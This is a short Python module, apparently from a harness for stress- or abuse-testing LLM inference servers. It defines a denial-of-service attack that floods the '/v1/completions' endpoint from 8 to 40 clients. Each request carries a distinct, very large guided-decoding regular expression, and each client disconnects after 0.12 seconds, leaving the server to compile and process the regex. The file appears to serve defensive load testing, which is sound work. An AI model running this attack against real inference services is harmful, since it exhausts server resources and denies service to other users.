"""Slow regular expressions, each a new one, whose clients leave after 0.12 s."""

from abuse.attack import Attack
from abuse.wire import Target, request


async def once(target: Target, number: int) -> int:
    regex = f"x{number}" + "[a-z]?" * 20_000
    body = {"prompt": "a", "max_tokens": 4, "guided_regex": regex}
    return await request(target, "/v1/completions", body, leave_after=0.12)


ATTACK = Attack(__doc__, once, probe="form", num_clients=(8, 40), in_gate=True)
